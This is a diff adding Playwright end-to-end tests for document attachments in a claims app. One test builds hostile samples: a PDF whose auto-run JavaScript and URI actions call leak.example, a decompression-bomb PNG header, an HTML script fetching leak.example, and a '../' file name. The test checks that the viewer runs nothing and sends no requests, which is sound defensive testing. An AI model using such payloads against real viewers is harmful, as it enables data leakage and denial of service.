@@ -1,0 +1,181 @@
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import PDFDocument from 'pdfkit';
+import { expect, test } from './app.ts';
+import { claimTitle, exploreSample, openList, pressKey } from './steps.ts';
+
+const documents = (page: Page) => page.getByRole('region', { name: /^Documents \(/ });
+const review = (page: Page) => page.getByRole('region', { name: 'Review', exact: true });
+
+/** A PDF file with a page of text for each of these. */
+const makePdf = (texts: readonly string[]): Promise<Buffer> =>
+  new Promise((resolve) => {
+    const pdf = new PDFDocument({ autoFirstPage: false });
+    const parts: Buffer[] = [];
+    pdf.on('data', (part: Buffer) => parts.push(part));
+    pdf.on('end', () => resolve(Buffer.concat(parts)));
+    for (const text of texts) pdf.addPage().fontSize(24).text(text);
+    pdf.end();
+  });
+
+/** A PDF file that runs a script and opens an address as soon as a viewer allows it. */
+const hostilePdf = `%PDF-1.7
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>>>endobj
+4 0 obj<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('https://leak.example/'\\);)>>endobj
+5 0 obj<</S/URI/URI(https://leak.example/)>>endobj
+trailer<</Root 1 0 R>>
+%%EOF`;
+
+/** Drops a file on the page, as from the desktop. */
+async function drop(page: Page, name: string, bytes: Buffer | string): Promise<void> {
+  const base64 = Buffer.from(bytes).toString('base64');
+  await page.evaluate(
+    ([fileName, text]) => {
+      const moved = new DataTransfer();
+      const file = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
+      moved.items.add(new File([file], fileName));
+      document.body.dispatchEvent(
+        new DragEvent('drop', { dataTransfer: moved, bubbles: true, cancelable: true }),
+      );
+    },
+    [name, base64] as const,
+  );
+  await expect(page.getByRole('dialog', { name: 'Attach file' })).toBeVisible();
+}
+
+async function confirm(page: Page): Promise<void> {
+  await page.getByRole('dialog', { name: 'Attach file' }).getByRole('button', { name: 'Attach' }).click();
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+}
+
+async function openClaim(page: Page): Promise<void> {
+  const rows = await openList(page, 'Claims');
+  await rows.first().dblclick();
+  await expect(claimTitle(page)).toBeVisible();
+  await expect(documents(page)).toBeVisible();
+}
+
+/** Opens a document, and returns its dialog. */
+async function open(page: Page, name: string) {
+  await documents(page).getByRole('button', { name, exact: true }).click();
+  return page.getByRole('dialog', { name });
+}
+
+/** Whether a canvas has a pixel that isn't white. */
+const isDrawn = (canvas: HTMLCanvasElement): boolean =>
+  canvas
+    .getContext('2d')
+    ?.getImageData(0, 0, canvas.width, canvas.height)
+    .data.some((value, at) => at % 4 < 3 && value < 128) === true;
+
+test('a claim waits for a receipt, which is dropped, shown, makes it due, and stays after a restart', async ({
+  app,
+  page,
+}) => {
+  await exploreSample(page);
+  await openClaim(page);
+  const url = page.url();
+  await pressKey(page, 'w');
+  const waiting = page.getByRole('dialog');
+  await waiting.getByLabel('Waiting on').fill('Member');
+  await page.keyboard.press('Tab');
+  await waiting.getByRole('textbox', { name: 'Reason' }).fill('Itemized receipt');
+  await waiting.getByRole('button', { name: 'Mark as waiting' }).click();
+  await expect(waiting).toHaveCount(0);
+  await page.goto(url);
+  await expect(review(page).getByText('Itemized receipt')).toBeVisible();
+
+  await drop(page, '../receipt.pdf', await makePdf(['Acme Pharmacy', 'Second page']));
+  await expect(page.getByRole('dialog')).toContainText('This claim is waiting.');
+  await confirm(page);
+  await expect(documents(page)).toContainText('Itemized receipt');
+  await expect(review(page).getByText(/^Itemized receipt came \d/)).toBeVisible();
+
+  const shown = await open(page, 'receipt.pdf');
+  await expect(shown.getByRole('img', { name: 'Page 2' })).toBeVisible();
+  expect(await shown.getByRole('img', { name: 'Page 1' }).evaluate(isDrawn)).toBe(true);
+  await page.keyboard.press('Escape');
+  await expect(shown).toHaveCount(0);
+
+  const again = await app.restart();
+  await again.goto(url.replace(/^https?:\/\/[^/]+/, new URL(again.url()).origin));
+  await expect(documents(again).getByRole('button', { name: 'receipt.pdf', exact: true })).toBeVisible();
+});
+
+test('pictures, text and other files are attached by keys alone, and shown or saved', async ({
+  app,
+  page,
+}) => {
+  await exploreSample(page);
+  await openClaim(page);
+  const folder = app.downloadsDir;
+  const picture = await page.screenshot();
+  for (const [name, bytes] of [
+    ['photo.png', picture],
+    ['note.txt', 'Paid in cash, $12.00'],
+    ['scan.tiff', Buffer.from('49492a0008000000', 'hex')],
+  ] as const) {
+    const chosen = page.waitForEvent('filechooser');
+    await documents(page).getByRole('button', { name: 'Attach file…' }).focus();
+    await page.keyboard.press('Enter');
+    await writeFile(join(folder, '..', name), bytes);
+    await (await chosen).setFiles(join(folder, '..', name));
+    await expect(page.getByRole('combobox', { name: 'Kind' })).toBeFocused();
+    await page.keyboard.press('Enter');
+    await confirm(page).catch(() => undefined);
+    await expect(documents(page).getByRole('button', { name, exact: true })).toBeVisible();
+  }
+  let shown = await open(page, 'photo.png');
+  await expect(shown.locator('canvas')).toBeVisible();
+  await shown.getByRole('button', { name: 'Zoom in' }).click();
+  await expect(shown.getByText('150%')).toBeVisible();
+  await page.keyboard.press('Escape');
+  shown = await open(page, 'note.txt');
+  await expect(shown.getByText('Paid in cash, $12.00')).toBeVisible();
+  await page.keyboard.press('Escape');
+  shown = await open(page, 'scan.tiff');
+  await expect(shown).toContainText('can’t be shown here');
+  await shown.getByRole('button', { name: 'Save a copy…' }).click();
+  await shown.getByText('Carrier follow-up').click();
+  await shown.getByRole('button', { name: /^Save copy/ }).click();
+  await expect(shown.getByText(/^Saved as/)).toBeVisible();
+});
+
+test('a hostile file runs nothing, asks no address, and is shown or refused', async ({ page }) => {
+  await exploreSample(page);
+  await openClaim(page);
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => void dialogs.push(dialog.message()));
+
+  await drop(page, 'hostile.pdf', hostilePdf);
+  await confirm(page);
+  let shown = await open(page, 'hostile.pdf');
+  await expect(shown.getByRole('img', { name: 'Page 1' })).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(shown).toHaveCount(0);
+
+  // 60,000 × 60,000 pixels by its header: 14 GB once it is decoded.
+  const huge = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
+  const size = Buffer.alloc(8);
+  size.writeUInt32BE(60_000, 0);
+  size.writeUInt32BE(60_000, 4);
+  await drop(page, 'huge.png', Buffer.concat([huge, size, Buffer.from('0806000000', 'hex')]));
+  await confirm(page);
+  shown = await open(page, 'huge.png');
+  await expect(shown.getByRole('alert')).toContainText('too large to be shown');
+  await page.keyboard.press('Escape');
+  await expect(shown).toHaveCount(0);
+
+  await drop(page, 'page.html', '<script>fetch("https://leak.example/")</script>');
+  await confirm(page);
+  shown = await open(page, 'page.html');
+  await expect(shown.getByText('<script>')).toBeVisible();
+
+  expect(dialogs).toEqual([]);
+  expect(asked.filter((url) => !new URL(url).hostname.startsWith('127.'))).toEqual([]);
+});
